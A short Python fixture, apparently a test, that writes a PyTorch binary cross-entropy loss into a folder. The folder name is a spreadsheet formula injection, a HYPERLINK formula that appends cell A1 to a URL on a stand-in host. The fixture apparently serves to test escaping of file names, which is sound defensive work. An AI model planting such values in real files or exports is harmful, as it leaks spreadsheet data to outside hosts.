from pathlib import Path

SOURCE = """
import torch


def criterion(y_hat, y):
    p = y_hat.clamp(1e-7, 1 - 1e-7)
    return -(y * torch.log(p) + (1 - y) * torch.log(1 - p)).mean()
"""


def make(folder: Path) -> Path:
    made = folder / '=HYPERLINK("https:x.invalid?"&A1,"ada")'
    made.mkdir()
    (made / "logistic_regression.py").write_text(SOURCE, encoding="utf-8")
    return made
